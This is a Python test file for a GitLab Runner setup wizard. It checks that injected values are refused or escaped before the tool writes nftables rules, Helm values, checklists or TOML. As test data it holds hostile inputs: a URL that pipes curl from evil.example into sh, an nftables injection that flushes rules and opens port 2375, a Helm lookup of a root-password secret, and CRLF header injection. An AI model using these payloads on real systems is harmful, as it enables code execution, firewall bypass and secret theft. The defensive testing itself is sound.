"""Each case of a value leaving its slot in a file we generate, refused or escaped.

A line break in ``allowed_images`` used to end the provenance comment of the
nftables ruleset; a line break in ``--url`` used to write new top-level chart
values; a ``{{`` in a preset used to reach ``runners.config``, which the chart
renders with ``tpl`` (gitlab-runner chart 0.86.0, templates/configmap.yaml:
``config.template.toml: {{ tpl .Values.runners.config $ | toYaml | indent 2 }}``).
"""

from __future__ import annotations

import io
import shlex
import tomllib
from pathlib import Path

import pytest
import yaml

from tests.ci import unavailable
from tests.cli_support import run_cli
from wizard.answers.model import Answers
from wizard.answers.steps import recommended
from wizard.answers.validation import url_problem
from wizard.artifacts import CHECKLIST_FILE, NFT_FILE, generate_artifacts
from wizard.base.model import Executor
from wizard.base.sinks import UnsafeValueError, url_shape_problem
from wizard.embedded.yamltree import render_scalar
from wizard.server.transport import HttpClient, ServerError, header_problem
from wizard.tomlfile.rendering import render_key, render_value

INJECTED_RULES = "alpine\nflush ruleset\ntable inet x { chain c { tcp dport 2375 accept; }; }\n#"
CHART_CONFIGMAP = (
    Path(__file__).resolve().parents[3]
    / "shared/reference/helm-chart/gitlab-runner-0.86.0/templates/configmap.yaml"
)

DOCKER_CONFIG = """\
concurrent = 1
[[runners]]
  name = "docker-1"
  url = "https://gitlab.example.com"
  token = "glrt-AbCdEfGhIjKlMnOpQrStUv"
  executor = "docker"
  [runners.docker]
    image = "alpine:3.20"
    allowed_images = {images}
"""


def _toml_string(value: str) -> str:
    return render_value(value)


def _one_line_refusal(err: str, *fragments: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in lines[0], (fragment, lines[0])


# -- nftables and the checklist ------------------------------------------------------------


def test_a_line_break_in_allowed_images_from_config_toml_writes_no_ruleset(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        DOCKER_CONFIG.format(images=f"[{_toml_string(INJECTED_RULES)}]"), encoding="utf-8"
    )
    out = tmp_path / "out"
    outcome = run_cli(capsys, "artifacts", str(config), "--out", str(out))
    assert outcome.code == 2
    _one_line_refusal(outcome.err, NFT_FILE, "allowed_images", "U+000A", "nothing was written")
    assert not out.exists() or not any(out.iterdir())


@pytest.mark.parametrize("channel", ["answers", "preset"])
def test_a_line_break_in_allowed_images_from_answers_or_a_preset_is_refused_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], channel: str
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(DOCKER_CONFIG.format(images='["alpine"]'), encoding="utf-8")
    source = tmp_path / f"{channel}.toml"
    answers = f'executor = "docker"\nallowed_images = [{_toml_string(INJECTED_RULES)}]\n'
    if channel == "preset":
        answers = f'name = "evil"\ntrust = "multi-project"\n[answers]\n{answers}'
    source.write_text(answers, encoding="utf-8")
    out = tmp_path / "out"
    outcome = run_cli(
        capsys, "artifacts", str(config), "--out", str(out), f"--{channel}", str(source)
    )
    assert outcome.code == 2
    _one_line_refusal(outcome.err, str(source), "allowed_images", "U+000A")
    assert not out.exists()


def test_a_line_break_in_allowed_images_inside_helm_values_writes_no_ruleset(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    escaped = INJECTED_RULES.replace("\n", "\\n")
    values = tmp_path / "values.yaml"
    values.write_text(
        "gitlabUrl: https://gitlab.example.com\n"
        "runners:\n"
        "  config: |\n"
        "    [[runners]]\n"
        '      executor = "docker"\n'
        "      [runners.docker]\n"
        f'        allowed_images = ["{escaped}"]\n',
        encoding="utf-8",
    )
    out = tmp_path / "out"
    outcome = run_cli(capsys, "artifacts", str(values), "--out", str(out))
    assert outcome.code == 2
    _one_line_refusal(outcome.err, NFT_FILE, "allowed_images")
    assert not out.exists()


@pytest.mark.parametrize(
    "url",
    [
        "https://gitlab.example.com/$(curl${IFS}-s${IFS}evil.example|sh)",
        "https://gitlab.example.com/`id`",
        "https://gitlab.example.com/a;reboot",
    ],
)
def test_the_checklist_passes_the_runner_url_to_the_shell_as_one_word(url: str) -> None:
    answers = recommended(Answers(executor=Executor.DOCKER))
    checklist = generate_artifacts(answers, gitlab_url=url, executor=Executor.DOCKER)[
        CHECKLIST_FILE
    ]
    probe = next(line for line in checklist.splitlines() if "/api/v4/version" in line)
    word = f"{url}/api/v4/version"
    assert shlex.quote(word) != word  # the shell would read more than a URL here
    assert probe.endswith(" " + shlex.quote(word))
    assert shlex.split(probe)[-1] == word


def test_a_backtick_in_an_answer_stays_inside_its_code_span() -> None:
    answers = recommended(
        Answers(executor=Executor.DOCKER, allowed_images=("alpine`<img src=x>`",))
    )
    checklist = generate_artifacts(
        answers, gitlab_url="https://gitlab.example.com", executor=Executor.DOCKER
    )[CHECKLIST_FILE]
    line = next(line for line in checklist.splitlines() if "allowed_images" in line)
    assert line == "- `` allowed_images = alpine`<img src=x>` ``"


@pytest.mark.parametrize("url", ["https://gitlab.example.com\u2028x", "https://gitlab\x1b.example"])
def test_a_control_character_in_the_runner_url_is_refused_before_any_file(url: str) -> None:
    answers = recommended(Answers(executor=Executor.DOCKER))
    with pytest.raises(UnsafeValueError, match=r"runner-wizard\.nft: url: "):
        generate_artifacts(answers, gitlab_url=url, executor=Executor.DOCKER)


@pytest.mark.parametrize("url", ["<URL of your GitLab instance>", "GITLAB_URL", "https://a b/"])
def test_a_placeholder_url_names_no_server_in_the_files(url: str) -> None:
    answers = recommended(Answers(executor=Executor.DOCKER))
    files = generate_artifacts(answers, gitlab_url=url, executor=Executor.DOCKER)
    assert "The GitLab server (no URL given)" in files[NFT_FILE]
    assert "https://gitlab.example.com/api/v4/version" in files[CHECKLIST_FILE]
    assert not any(url in text for text in files.values())


def test_a_control_character_in_the_autoscaler_plugin_is_refused() -> None:
    answers = recommended(Answers(executor=Executor.DOCKER_AUTOSCALER))
    with pytest.raises(UnsafeValueError, match=r"HOST-CHECKLIST\.md: plugin: .*U\+000A"):
        generate_artifacts(
            answers,
            gitlab_url="https://gitlab.example.com",
            executor=Executor.DOCKER_AUTOSCALER,
            autoscaler_plugin="aws\n## 9. Disable the firewall",
        )


# -- Helm values ---------------------------------------------------------------------------


@pytest.mark.parametrize("variable", [False, True])
def test_a_line_break_in_the_url_writes_no_new_chart_values(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    variable: bool,
) -> None:
    hostile = "https://gitlab.example.com\nimage: registry.evil.example/runner:latest"
    path = tmp_path / "values.yaml"
    argv = ["new", str(path), "--preset", "restricted-kubernetes"]
    if variable:
        monkeypatch.setenv("CI_SERVER_URL", hostile)
    else:
        argv += ["--url", hostile]
    outcome = run_cli(capsys, *argv)
    assert outcome.code == 2
    _one_line_refusal(outcome.err, "CI_SERVER_URL" if variable else "--url", "control characters")
    assert not path.exists()


def test_the_url_in_a_new_values_file_is_one_quoted_scalar(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "values.yaml"
    url = "https://gitlab.example.com/#x"
    assert (
        run_cli(capsys, "new", str(path), "--preset", "restricted-kubernetes", "--url", url).code
        == 0
    )
    assert yaml.safe_load(path.read_text(encoding="utf-8"))["gitlabUrl"] == url


def _hostile_preset(folder: Path, **answers: str) -> Path:
    preset = folder / "evil.toml"
    lines = [
        'name = "evil"',
        'trust = "multi-project"',
        "[answers]",
        'executor = "kubernetes"',
        *(f"{key} = {value}" for key, value in answers.items()),
    ]
    preset.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return preset


LOOKUP = '{{(lookup"v1""Secret""gitlab""gitlab-initial-root-password").data}}'
"""One word, as preset values are checked on load; the chart's template engine still runs it."""


def test_a_template_action_in_a_preset_never_reaches_a_new_values_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    preset = _hostile_preset(tmp_path, allowed_images=f"[{_toml_string(LOOKUP)}]")
    path = tmp_path / "values.yaml"
    outcome = run_cli(capsys, "new", str(path), "--preset", str(preset))
    assert outcome.code == 2
    _one_line_refusal(outcome.err, str(preset), "allowed_images", "tpl")
    assert not path.exists()


@pytest.mark.parametrize("channel", ["preset", "answers"])
def test_a_template_action_from_a_preset_or_answers_is_not_written_into_runners_config(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], channel: str
) -> None:
    values = tmp_path / "values.yaml"
    assert run_cli(capsys, "new", str(values), "--preset", "restricted-kubernetes").code == 0
    before = values.read_bytes()
    # One word, as a typed list answer must be; the chart would still render it.
    hostile = {"allowed_images": '["alpine", "registry.example/{{.Values.evil}}"]'}
    if channel == "preset":
        outcome = run_cli(
            capsys, "harden", str(values), "--preset", str(_hostile_preset(tmp_path, **hostile))
        )
    else:
        answers = tmp_path / "answers.toml"
        answers.write_text(
            'executor = "kubernetes"\nallowed_images = ' + hostile["allowed_images"] + "\n",
            encoding="utf-8",
        )
        outcome = run_cli(
            capsys,
            "plain",
            str(values),
            "--answers",
            str(answers),
            "--non-interactive",
            "--accept-defaults",
        )
    assert outcome.code == 2, outcome.everything
    _one_line_refusal(outcome.err, str(values), "allowed_images", "'{{'")
    assert values.read_bytes() == before


def test_the_template_actions_a_values_file_already_has_are_kept_by_an_edit(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    values = tmp_path / "values.yaml"
    values.write_text(
        "runners:\n"
        "  config: |\n"
        "    [[runners]]\n"
        '      executor = "kubernetes"\n'
        "      [runners.kubernetes]\n"
        '        namespace = "{{.Release.Namespace}}"\n'
        '        allowed_images = ["{{ .Values.jobImage }}"]\n',
        encoding="utf-8",
    )
    outcome = run_cli(capsys, "harden", str(values), "--fix", "all", "--no-backup")
    assert outcome.code == 0, outcome.everything
    text = values.read_text(encoding="utf-8")
    assert '["{{ .Values.jobImage }}"]' in text


# -- the audit rule ------------------------------------------------------------------------


def _audit_values(tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str) -> list[str]:
    values = tmp_path / "values.yaml"
    values.write_text(
        "runners:\n"
        "  config: |\n"
        "    [[runners]]\n"
        '      executor = "kubernetes"\n'
        "      [runners.kubernetes]\n"
        '        namespace = "{{.Release.Namespace}}"\n'
        f"        {line}\n",
        encoding="utf-8",
    )
    import json

    outcome = run_cli(capsys, "audit", str(values), "--format", "json", "--fail-on", "never")
    report = json.loads(outcome.out)
    return [
        finding["message"]
        for finding in report["files"][0]["findings"]
        if finding["rule"] == "chart-config-template-action"
    ]


def test_the_chart_renders_runners_config_as_a_template() -> None:
    """The fact the rule rests on, read from the chart itself."""
    if not CHART_CONFIGMAP.is_file():
        unavailable(f"the chart's templates are not at {CHART_CONFIGMAP} (../shared)")
    text = CHART_CONFIGMAP.read_text(encoding="utf-8")
    assert "tpl .Values.runners.config $" in text


@pytest.mark.parametrize(
    ("line", "flagged"),
    [
        (f"image = '{LOOKUP}'", "lookup"),
        ("image = '{{ tpl .Values.jobImage $ }}'", "tpl"),
        ("image = '{{ .Files.Get \"image.txt\" }}'", ".Files.Get"),
        ('image = "{{ getHostByName \\"evil.example\\" }}"', "getHostByName"),
    ],
)
def test_audit_flags_template_actions_that_reach_beyond_the_values(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, flagged: str
) -> None:
    messages = _audit_values(tmp_path, capsys, line)
    assert len(messages) == 1
    assert flagged in messages[0]


@pytest.mark.parametrize(
    "line",
    [
        "image = '{{ .Values.jobImage | default \"alpine:3.20\" }}'",
        'image = "{{ include \\"gitlab-runner.cache-tpl.s3ServerAddress\\" . }}"',
        'ServerAddress = {{ include "gitlab-runner.cache-tpl.s3ServerAddress" . }}',
        "# {{/* a comment */}}",
    ],
)
def test_the_files_own_template_actions_are_not_flagged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str
) -> None:
    assert _audit_values(tmp_path, capsys, line) == []


# -- YAML and TOML renderers ---------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["12:30", "0x1F", ".inf", "@here", "a\u2028b: c", "x\x85y", "tab\there", "\x1b[2J"]
)
@pytest.mark.parametrize("style", [None, "'", '"'])
def test_yaml_scalars_read_back_as_the_string_written(value: str, style: str | None) -> None:
    rendered = render_scalar(value, style)
    assert not any(char in rendered for char in "\n\u2028\x85")
    assert yaml.safe_load(f"key: {rendered}\nnext: 1\n") == {"key": value, "next": 1}


def test_a_key_with_a_final_newline_is_quoted() -> None:
    rendered = render_key("evil\n")
    assert rendered == '"evil\\n"'
    assert tomllib.loads(f"{rendered} = 1") == {"evil\n": 1}


@pytest.mark.parametrize("value", ["a\u2028b", "a\x85b", "a\u2029b", "\u202eevil"])
def test_toml_strings_escape_what_a_yaml_reader_takes_as_a_line_break(value: str) -> None:
    rendered = render_value(value)
    assert rendered.isascii()
    assert rendered.isprintable()
    assert tomllib.loads(f"k = {rendered}")["k"] == value


def test_presets_export_refuses_a_key_with_a_final_newline_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    preset = tmp_path / "evil.toml"
    preset.write_text(
        'name = "evil"\ntrust = "multi-project"\n[answers]\nexecutor = "docker"\n'
        '[settings."runners.docker.sysctls"]\n"evil\\n" = "1"\n',
        encoding="utf-8",
    )
    target = tmp_path / "template.toml"
    outcome = run_cli(capsys, "presets", "export", str(preset), "--template-config", str(target))
    assert outcome.code == 2
    _one_line_refusal(outcome.err, str(preset), "sysctls", "U+000A")
    assert not target.exists()


def test_presets_new_refuses_a_control_character_taken_from_a_config(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        DOCKER_CONFIG.format(images=f"[{_toml_string(INJECTED_RULES)}]"), encoding="utf-8"
    )
    out = tmp_path / "made.toml"
    outcome = run_cli(
        capsys, "presets", "new", "made", "--from-config", str(config), "--out", str(out)
    )
    assert outcome.code == 2
    _one_line_refusal(outcome.err, str(out), "allowed_images", "U+000A")
    assert not out.exists()


@pytest.mark.parametrize("typed", ["alpine\x1b[2J", "alpine\x00", "alpine\u202e"])
def test_a_typed_answer_with_a_control_character_is_not_an_answer(typed: str) -> None:
    from wizard.answers.steps import question
    from wizard.answers.validation import answer_problem

    assert answer_problem(question("allowed_images"), (typed,)) is not None
    assert answer_problem(question("default_image"), typed) is not None


# -- the one URL check ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://https://gitlab.example.com",
        "https://http://gitlab.local",
        "https://http:/gitlab.local",
        "https://gitlab.example.com\nimage: x",
        "https://gitlab.example.com\r/x",
        "https://git lab.example.com",
        "https://gitlab.example.com\x1b[31m",
        "https://gitlab.example.com\u2028x",
        "https://",
        "https:///path",
        "https://gitlab.example.com:port",
    ],
)
def test_the_url_check_takes_only_a_real_host(url: str) -> None:
    assert url_problem(url, allow_http=True) is not None
    assert url_problem(url + "/", allow_http=True) is not None


@pytest.mark.parametrize(
    "url", ["https://gitlab.example.com", "https://10.0.0.5:8443/gitlab", "http://gitlab.local"]
)
def test_the_url_check_takes_real_hosts(url: str) -> None:
    assert url_problem(url, allow_http=True) is None
    assert url_shape_problem(url) is None


@pytest.mark.parametrize(
    "url", ["https://https://gitlab.example.com", "https://gitlab.example.com\nx", "https://a b"]
)
def test_server_check_takes_the_same_url_shape(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], url: str
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(DOCKER_CONFIG.format(images='["alpine"]'), encoding="utf-8")
    outcome = run_cli(capsys, "server-check", str(config), "--gitlab-url", url)
    assert outcome.code == 2
    _one_line_refusal(outcome.err, "--gitlab-url")


def test_the_plain_url_prompt_is_not_prefilled_with_a_scheme(tmp_path: Path) -> None:
    from tests.plain_fakes import FakePrompts
    from wizard.base.model import RunnerIdentity
    from wizard.plain.flow import PlainWizard
    from wizard.session.core import WizardSession
    from wizard.session.scripted import Start

    prompts = FakePrompts({"GitLab URL": "http://gitlab.local", "not https": True})
    wizard = PlainWizard(
        WizardSession.open(tmp_path / "config.toml"),
        prompts,
        io.StringIO(),
        start=Start(answers=Answers()),
        identity=RunnerIdentity(name="docker-1"),
    )
    identity = wizard.ask_identity()
    assert prompts.defaults["GitLab URL:"] == ""
    assert identity.url == "http://gitlab.local"


# -- tokens in headers ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "token", ["glpat-abc\r\nX-Injected: 1", "glpat-abc\ndef", "glpat-abc€def", "glpat-ab\x1bc"]
)
def test_gitlab_token_gets_the_check_the_token_file_gets(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    token: str,
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        DOCKER_CONFIG.format(images='["alpine"]').replace(
            '  executor = "docker"', '  id = 7\n  executor = "docker"'
        ),
        encoding="utf-8",
    )
    monkeypatch.setenv("GITLAB_TOKEN", token)
    from_variable = run_cli(capsys, "server-check", str(config), "--timeout", "1")
    monkeypatch.delenv("GITLAB_TOKEN")
    token_file = tmp_path / "token"
    token_file.write_text(token, encoding="utf-8")
    from_file = run_cli(
        capsys, "server-check", str(config), "--api-token-file", str(token_file), "--timeout", "1"
    )
    for outcome, where in ((from_variable, "GITLAB_TOKEN"), (from_file, str(token_file))):
        assert outcome.code == 2
        _one_line_refusal(outcome.err, where, "an access token is one word")
        assert "glpat-ab" not in outcome.everything
    reason = from_variable.err.partition("GITLAB_TOKEN: ")[2]
    assert reason == from_file.err.partition(f"{token_file}: ")[2].replace(
        " (--api-token-file)", ""
    )


@pytest.mark.parametrize("value", ["tok\r\nX-Evil: 1", "tok€en", "tok\x00", "tok\n"])
def test_no_header_value_escapes_in_an_exception(value: str) -> None:
    assert header_problem("PRIVATE-TOKEN", value) is not None
    client = HttpClient(allow_http=True, timeout=1)
    with pytest.raises(ServerError) as error:
        client.request("GET", "http://127.0.0.1:9/api/v4/version", headers={"X-Token": value})
    assert value not in str(error.value)
    assert "tok" not in str(error.value)


@pytest.mark.parametrize(
    "url", ["https://http://gitlab.local", "https://gitlab.example.com/\x1b[2J", "https://a b"]
)
async def test_the_tui_runner_form_takes_the_same_url_shape(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, url: str
) -> None:
    from textual.widgets import Static

    from tests.tui_support import SIZE, fill_new_runner, position, press, settle
    from wizard.tui.app import build_app

    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GITLAB_TOKEN", raising=False)
    app = build_app(Path("config.toml"))
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        await press(app, pilot, "enter")
        await fill_new_runner(app, pilot, name="r", url=url)
        assert position(app) == "runner"
        problem = str(app.screen.query_one("#form-problem", Static).content)
        assert "URL" in problem
        await press(app, pilot, "q")
    assert not (tmp_path / "config.toml").exists()


AUTOSCALER_CONFIG = """\
concurrent = 1
[[runners]]
  name = "d"
  url = "https://gitlab.example.com"
  token = "glrt-AbCdEfGhIjKlMnOpQrStUv"
  executor = "docker-autoscaler"
  [runners.docker]
    image = "alpine:3.20"
  [runners.autoscaler]
    plugin = "aws\\n## 9. Turn the firewall off"
"""


def test_a_value_only_the_hardening_files_refuse_does_not_stop_a_wizard_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(AUTOSCALER_CONFIG, encoding="utf-8")
    outcome = run_cli(
        capsys, "plain", str(config), "--preset", "public-autoscaler", "--non-interactive",
        "--name", "d", "--no-backup",
    )  # fmt: skip
    assert outcome.code == 0, outcome.everything
    assert not any(line.startswith("## 9.") for line in outcome.out.splitlines())


def test_the_hardening_files_are_refused_before_the_config_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(AUTOSCALER_CONFIG, encoding="utf-8")
    out = tmp_path / "out"
    outcome = run_cli(
        capsys, "plain", str(config), "--preset", "public-autoscaler", "--non-interactive",
        "--name", "d", "--artifacts", str(out),
    )  # fmt: skip
    assert outcome.code == 2
    _one_line_refusal(outcome.err, "HOST-CHECKLIST.md", "plugin", "U+000A")
    assert config.read_text(encoding="utf-8") == AUTOSCALER_CONFIG
    assert not out.exists()
